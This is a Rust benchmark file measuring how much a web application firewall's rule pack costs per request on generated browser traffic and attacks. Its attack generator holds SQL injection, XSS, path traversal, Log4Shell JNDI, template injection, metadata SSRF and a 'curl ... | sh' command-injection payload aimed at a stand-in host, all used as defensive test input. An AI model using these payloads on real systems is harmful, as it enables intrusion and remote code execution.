//! What do WAF rules cost a request?
//!
//! The shipped pack at paranoia 1, both gates, on a browser's GET with ten parameters, a 1 KiB JSON
//! body, a 10 KiB form and attacks: hundreds of different requests each, never one repeated, since a
//! repeated one flatters caches and branch predictors. Then inputs made to be slow: what a literal
//! begins with, over and over; near misses; special bytes. The anchor, a hit in a `HashMap` of 10,000
//! entries, is measured in the same run, so that ratios can be quoted.

use std::collections::HashMap;
use std::hint::black_box;

use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri, Version};
use jiff::Timestamp;
use portcullis::decision::Notes;
use portcullis::facts::{Body, Client, Facts, Fields, Identity, Scheme, Target};
use portcullis::policy::compile::Compile;
use portcullis::policy::decode::{Decode, Node};
use portcullis::policy::diagnostic::{Diagnostics, FileId};
use portcullis::policy::source::Sources;
use portcullis::policy::waf::{Carried, RawWaf, Waf};

/// How many different requests each measurement goes through.
const VARIETY: usize = 512;

fn waf() -> Waf {
    let sources = Sources::single("bench", "[waf]\npacks = [\"core\"]\nbudget = 1_000_000_000\n");
    let mut diagnostics = Diagnostics::default();
    let text = sources.get(FileId(0)).map_or("", |source| &*source.text);
    let table = toml::de::DeTable::parse(text).expect("the text is TOML");
    let node = table.get_ref().get("waf").expect("it has [waf]");
    let raw = RawWaf::decode(Node::new(FileId(0), node), &mut diagnostics).expect("it decodes");
    let mut cx = Compile {
        sources: &sources,
        now: Timestamp::UNIX_EPOCH,
        diagnostics: &mut diagnostics,
        rules: Default::default(),
        networks: Default::default(),
        roles: Default::default(),
        routes: Default::default(),
    };
    let (waf, _) = Waf::compile(Some(&raw), &mut cx);
    assert!(diagnostics.is_empty(), "the pack has problems");
    waf
}

/// A request with what is known of it before the WAF is asked.
struct Case {
    target: Target,
    headers: HeaderMap,
    fields: Fields,
    body: Body,
}

impl Case {
    fn new(method: Method, uri: &str, headers: &[(&str, String)], body: Vec<u8>) -> Case {
        let mut map = HeaderMap::new();
        for (name, value) in headers {
            let name = HeaderName::from_bytes(name.as_bytes()).expect("a name");
            map.append(name, HeaderValue::from_bytes(value.as_bytes()).expect("a value"));
        }
        let uri: Uri = uri.parse().expect("a target");
        let target = Target::parse(&method, Scheme::Https, &uri, &map);
        assert!(target.error.is_none(), "{uri} is refused at intake");
        let fields = Fields::scan(&method, Version::HTTP_11, &map);
        let body = if body.is_empty() { Body::Absent } else { Body::Whole(body.into()) };
        Case { target, headers: map, fields, body }
    }

    /// Asks both gates.
    fn judge(&self, waf: &Waf, client: &Client) -> Notes {
        let mut notes = Notes::default();
        let mut carried = Carried::default();
        let facts = Facts {
            now: Timestamp::UNIX_EPOCH,
            target: &self.target,
            headers: &self.headers,
            fields: &self.fields,
            client,
            route: None,
            identity: &Identity::Nobody,
            body: &self.body,
        };
        let _ = black_box(waf.check_head(&facts, false, &mut carried, &mut notes, None));
        let _ = black_box(waf.check_body(&facts, false, &mut carried, &mut notes, None));
        notes
    }
}

// === traffic ===

/// A small generator of numbers (splitmix64): the same requests in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound as u64) as usize
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }

    fn token(&mut self, length: usize) -> String {
        const LETTERS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_";
        (0..length).map(|_| char::from(LETTERS[self.below(LETTERS.len())])).collect()
    }

    fn sentence(&mut self, words: usize) -> String {
        let mut text = (0..words).map(|_| self.pick(WORDS)).collect::<Vec<_>>().join(" ");
        if self.below(3) == 0 {
            text.push_str(self.pick(&[
                ", isn't it?",
                " (see above).",
                "; thanks & bye!",
                " - 50% off: \"now\".",
            ]));
        }
        text
    }

    /// A value as it is found in parameters.
    fn value(&mut self) -> String {
        match self.below(9) {
            0 => self.below(100_000).to_string(),
            1 => format!(
                "2026-{:02}-{:02}T{:02}:15:00Z",
                self.below(12) + 1,
                self.below(28) + 1,
                self.below(24)
            ),
            2 => {
                format!(
                    "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
                    self.next() as u32,
                    self.below(65536),
                    self.below(4096),
                    self.below(4096),
                    self.next() >> 16
                )
            }
            3 => format!("{}.{}@example.com", self.pick(WORDS), self.pick(NAMES)),
            4 => format!(
                "https://www.example.com/{}/{}?id={}",
                self.pick(WORDS),
                self.pick(WORDS),
                self.below(9999)
            ),
            5 => format!(
                "{} {}",
                self.pick(NAMES),
                self.pick(&["O'Neill", "D'Souza", "Müller", "Kowalska", "Smith-Jones"])
            ),
            6 => self.token(22),
            7 => {
                let words = 2 + self.below(3);
                self.sentence(words)
            }
            _ => {
                let words = 6 + self.below(8);
                self.sentence(words)
            }
        }
    }
}

const WORDS: &[&str] = &[
    "order", "select", "the", "from", "blue", "shoes", "update", "house", "table", "and", "or", "with",
    "size", "delivery", "union", "street", "where", "is", "my", "drop", "price", "group", "by", "insert",
    "script", "window", "alert", "find", "cat", "type", "set", "free", "new", "user", "exec", "summary",
    "please", "answer", "like", "between", "having", "in",
];
const NAMES: &[&str] = &["Anna", "John", "Léa", "Siobhán", "Piotr", "Mary", "Ahmed", "Yuki", "Olga", "Tom"];
const FIELDS: &[&str] = &[
    "q",
    "p",
    "sort",
    "hl",
    "id",
    "name",
    "email",
    "utm_source",
    "filter[name]",
    "ref",
    "since",
    "note",
    "title",
    "body",
];

fn encode(text: &str) -> String {
    let mut encoded = String::new();
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => encoded.push(char::from(byte)),
            b' ' => encoded.push('+'),
            other => encoded.push_str(&format!("%{other:02X}")),
        }
    }
    encoded
}

fn browser(random: &mut Random) -> Vec<(&'static str, String)> {
    let agent = random.pick(&[
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "X11; Linux x86_64",
        "Linux; Android 10; K",
    ]);
    let version = 120 + random.below(25);
    vec![
        ("host", "www.example.com".to_owned()),
        (
            "user-agent",
            format!(
                "Mozilla/5.0 ({agent}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
            ),
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
                .to_owned(),
        ),
        ("accept-language", "en-GB,en;q=0.9,de;q=0.8".to_owned()),
        ("accept-encoding", "gzip, deflate, br, zstd".to_owned()),
        ("sec-ch-ua", format!("\"Chromium\";v=\"{version}\", \"Not?A_Brand\";v=\"24\"")),
        ("sec-ch-ua-mobile", "?0".to_owned()),
        ("sec-fetch-site", "same-origin".to_owned()),
        ("sec-fetch-mode", "navigate".to_owned()),
        ("referer", format!("https://www.example.com/search?q={}", encode(&random.sentence(3)))),
        (
            "cookie",
            format!(
                "sid={}; lang=en; theme=dark; seen={}; _ga=GA1.1.{}.{}",
                random.token(32),
                random.below(9999),
                random.below(1 << 30),
                random.below(1 << 30)
            ),
        ),
    ]
}

/// A browser's GET with ten parameters.
fn get(random: &mut Random) -> Case {
    let query: Vec<String> =
        (0..10).map(|at| format!("{}={}", FIELDS[at], encode(&random.value()))).collect();
    let uri =
        format!("/{}/{}/{}?{}", random.pick(WORDS), random.pick(WORDS), random.below(99999), query.join("&"));
    let headers = browser(random);
    Case::new(Method::GET, &uri, &headers, Vec::new())
}

fn post(random: &mut Random, content_type: &str, body: Vec<u8>) -> Case {
    let mut headers = browser(random);
    headers.push(("content-type", content_type.to_owned()));
    Case::new(Method::POST, &format!("/api/{}", random.pick(WORDS)), &headers, body)
}

/// A JSON body of about 1 KiB.
fn json(random: &mut Random) -> Case {
    let mut items = Vec::new();
    let mut length = 0;
    while length < 900 {
        let item = serde_json::json!({
            "id": random.below(1 << 20), "name": random.value(), "tags": [random.pick(WORDS), random.pick(WORDS)],
            "note": random.value(), "ok": true,
        });
        length += item.to_string().len();
        items.push(item);
    }
    let body =
        serde_json::json!({ "items": items, "total": items.len(), "user": { "email": "a@example.com" } });
    post(random, "application/json", body.to_string().into_bytes())
}

/// A form of about 10 KiB.
fn form(random: &mut Random) -> Case {
    let mut body = String::new();
    while body.len() < 10_000 {
        body.push_str(&format!("{}={}&", encode(random.pick(FIELDS)), encode(&random.value())));
    }
    post(random, "application/x-www-form-urlencoded", body.into_bytes())
}

/// A browser's GET with an attack in one of its parameters.
fn attack(random: &mut Random) -> Case {
    let number = random.below(9999);
    let payload = match random.below(8) {
        0 => format!("{number}' or '{number}'='{number}"),
        1 => format!("-{number} union all select null,{number},user()-- "),
        2 => format!("<img src=x onerror=alert({number})>"),
        3 => format!("../../../../etc/passwd%00{number}"),
        4 => format!("; curl http://198.51.100.{}/x.sh | sh", random.below(255)),
        5 => format!("${{jndi:ldap://198.51.100.7/{number}}}"),
        6 => format!("{{{{{number}*{number}}}}}"),
        _ => format!("http://169.254.169.254/latest/meta-data/{number}"),
    };
    let query: Vec<String> = (0..10)
        .map(|at| {
            format!("{}={}", FIELDS[at], encode(&if at == 4 { payload.clone() } else { random.value() }))
        })
        .collect();
    let headers = browser(random);
    Case::new(Method::GET, &format!("/search?{}", query.join("&")), &headers, Vec::new())
}

/// A kind of hostile value: its name, and what makes one.
type Hostile = (&'static str, fn(&mut Random) -> Vec<u8>);

/// What makes each kind of hostile value, about 1 KiB each.
const HOSTILE: &[Hostile] = &[
    ("prefixes", |random| {
        let from = [
            "unio",
            "selec",
            "<scrip",
            "java",
            "onerro",
            "/etc/passw",
            "${jnd",
            "{{",
            "waitfo",
            "${",
            "' o",
            "..",
        ];
        repeat(random, &from)
    }),
    ("near-misses", |random| {
        let from = [
            "union selec ",
            "<scrip t>",
            "' or ",
            "1=",
            "; ca ",
            "onerror ",
            "../",
            "{{ ",
            "$( ",
            "/etc/hosts ",
            "java.lang. ",
            "select from ",
        ];
        repeat(random, &from)
    }),
    ("quotes", |random| repeat(random, &["'", "\"", "' ", "'a", "\")", "`"])),
    ("specials", |random| {
        repeat(
            random,
            &["(", ")", ";", "|", "&", "$", "{", "}", "<", ">", "=", "\\", "%", "#", "*", "/", "-", "@", "["],
        )
    }),
    ("words", |random| {
        repeat(
            random,
            &["select ", "from ", "or ", "and ", "cat ", "id ", "exec ", "union ", "order by ", "having "],
        )
    }),
    ("escapes", |random| {
        repeat(random, &["%25", "%3c", "\\u003c", "&lt;", "\\x27", "&#x27;", "+", "%u003c", "/**/", "--\n"])
    }),
    ("random", |random| (0..1024).map(|_| random.next() as u8).collect()),
];

fn repeat(random: &mut Random, from: &[&str]) -> Vec<u8> {
    let mut value = String::new();
    while value.len() < 1024 {
        value.push_str(random.pick(from));
    }
    value.into_bytes()
}

fn hostile(make: fn(&mut Random) -> Vec<u8>, random: &mut Random) -> Case {
    let value = make(random);
    let escaped: String = value.iter().map(|byte| format!("%{byte:02x}")).collect();
    let mut headers = browser(random);
    headers.push(("content-type", "application/x-www-form-urlencoded".to_owned()));
    Case::new(Method::POST, "/x", &headers, format!("a={escaped}").into_bytes())
}

// === measurements ===

fn measure(c: &mut Criterion, name: &str, waf: &Waf, cases: &[Case]) {
    let client = Client::direct([192, 0, 2, 7].into());
    let mut at = 0;
    c.bench_function(name, |b| {
        b.iter(|| {
            at = (at + 1) % cases.len();
            cases[at].judge(waf, &client)
        })
    });
}

fn requests(c: &mut Criterion) {
    let mut random = Random(1);
    let map: HashMap<String, usize> = (0..10_000).map(|number| (format!("key-{number}"), number)).collect();
    let keys: Vec<String> = (0..VARIETY).map(|_| format!("key-{}", random.below(10_000))).collect();
    let mut at = 0;
    c.bench_function("anchor/hash-map-hit", |b| {
        b.iter(|| {
            at = (at + 1) % keys.len();
            map.get(black_box(&keys[at]))
        })
    });
    let waf = waf();
    type Model = fn(&mut Random) -> Case;
    let models: [(&str, Model); 4] =
        [("get", get), ("json-1KiB", json), ("form-10KiB", form), ("attack", attack)];
    for (name, make) in models {
        let cases: Vec<Case> = (0..VARIETY).map(|_| make(&mut random)).collect();
        measure(c, &format!("waf/{name}"), &waf, &cases);
    }
    measure(c, "waf/none", &Waf::default(), &[get(&mut random)]);
    for (name, make) in HOSTILE {
        let cases: Vec<Case> = (0..64).map(|_| hostile(*make, &mut random)).collect();
        measure(c, &format!("waf/hostile-1KiB/{name}"), &waf, &cases);
    }
}

fn compile(c: &mut Criterion) {
    let mut group = c.benchmark_group("waf-compile");
    group.throughput(Throughput::Elements(1)).sample_size(10);
    // The expressions of the pack are compiled once a process; this is what every reload costs.
    let _ = waf();
    group.bench_function("pack", |b| b.iter_batched(|| (), |()| waf(), BatchSize::PerIteration));
    group.finish();
}

criterion_group!(benches, requests, compile);
criterion_main!(benches);
